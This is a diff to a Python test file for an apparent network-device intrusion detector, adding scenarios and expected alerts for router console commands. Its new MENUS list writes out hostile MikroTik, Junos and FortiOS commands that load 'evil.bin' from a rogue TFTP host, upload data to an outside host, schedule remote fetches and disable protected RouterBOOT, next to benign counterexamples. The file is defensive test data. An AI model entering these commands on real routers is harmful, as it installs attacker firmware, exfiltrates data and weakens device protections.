@@ -9,7 +9,7 @@ from bootwarden.traffic.wire import Wire
 
 EVIL = f"tftp://{ROGUE}/evil.bin"
 BOOTS, LOADS, RELOADS, SENDS, WEAKENS = 1542007360, 1542007361, 1542007362, 1542007363, 1542007364
-SHELL_LOADS, SHELL_SENDS = 1542007005, 1542007006
+OTHERS_LOAD, OTHERS_SEND, SHELL_LOADS, SHELL_SENDS = 1542007001, 1542007002, 1542007005, 1542007006
 
 WRAPPED = (
     ("R1(tcl)#", f'puts [exec "copy {EVIL} flash:"]', "BW07", LOADS),
@@ -46,6 +46,31 @@ SHELLS = (
     ("sh-4.2# ", "shutdown -r now", "BW05", 3),
     ("Console> (enable) ", f"copy tftp flash {ROGUE} evil.bin", "BW07", 1),
 )
+
+MENUS = (
+    ("[admin@MikroTik] /tool> ", f"fetch url={EVIL}", "BW07", OTHERS_LOAD),
+    ("[admin@MikroTik] /tool> ", f"fetch address={ROGUE} mode=tftp src-path=evil.bin", "BW07", OTHERS_LOAD),
+    (
+        "[admin@MikroTik] /tool> ",
+        f"fetch upload=yes address={OUTSIDE} src-path=evil.bin mode=tftp",
+        "BW18",
+        OTHERS_SEND,
+    ),
+    ("[admin@MikroTik] /system/scheduler> ", f'add name=u on-event="/tool fetch url={EVIL}"', "BW07", LOADS),
+    ("[admin@MikroTik] /system/routerboard/settings> ", "set boot-device=try-ethernet-once-then-nand", "BW07", 0),
+    ("[admin@MikroTik] /system/routerboard/settings> ", "set protected-routerboot=disabled", "BW27", 0),
+    ("root@mx1# ", f"set configuration-servers {EVIL}", "BW07", 0),
+    ("root@mx1# ", f"set autoinstallation configuration-servers {EVIL}", "BW07", 0),
+    ("root@mx1# ", f"set archive-sites ftp://{OUTSIDE}/evil.bin", "BW18", 5),
+    (
+        "root@mx1# ",
+        f'set event-options policy P then execute-commands commands "request system software add {EVIL}"',
+        "BW07",
+        LOADS,
+    ),
+    ("fw1 (up) # ", f'set script "execute restore image tftp evil.bin {ROGUE}"', "BW07", LOADS),
+)
+"""What is typed within a menu or a level of the configuration, and by scripts that these hold."""
 
 NOTES = {
     "BW05": "Remote_Reload",
@@ -99,6 +124,20 @@ def bw07_shells(wire: Wire) -> None:
         console(wire, n, prompt, (line, ""))
 
 
+@scenario(
+    "BW07",
+    "malicious",
+    raises=_alerts(MENUS, 121),
+    plain=_notices(MENUS, 121, abroad=True),
+    site=HQ,
+    with_site=_notices(MENUS, 121),
+)
+def bw07_within_menus(wire: Wire) -> None:
+    """RouterOS' menus, Junos' and FortiOS' levels, where a command's first words are left out."""
+    for n, (prompt, line, _, _) in enumerate(MENUS, 121):
+        console(wire, n, prompt, (line, ""))
+
+
 @scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
 def bw07_harmless_wrapped(wire: Wire) -> None:
     """Scripts, schedulers, shells that only show and save; aliases, which order nothing; words of loaders in others."""
@@ -123,6 +162,11 @@ def bw07_harmless_wrapped(wire: Wire) -> None:
             ("[MSR-job-a]", "command 1 display version"),
             ("root@mx1# ", "load merge terminal"),
             ("[admin@MikroTik] > ", '/system scheduler add name=x on-event="/log info hi"'),
+            ("[admin@MikroTik] /ip/firewall/nat> ", "add chain=srcnat action=src-nat to-addresses=10.0.0.5"),
+            ("[admin@MikroTik] /routing/ospf> ", f"add source={ROGUE}"),
+            ("root@mx1# ", 'set event-options policy P then execute-commands commands "show version"'),
+            ("fw1 (st) # ", 'set script "get system status"'),
+            ("fw1 (h) # ", f'set comment "execute restore image tftp evil.bin {ROGUE}"'),
             ("sh-4.2# ", "cd /mnt/flash; ls -l"),
             ("sh-4.2# ", "curl -s http://10.0.0.5/health"),
         ),
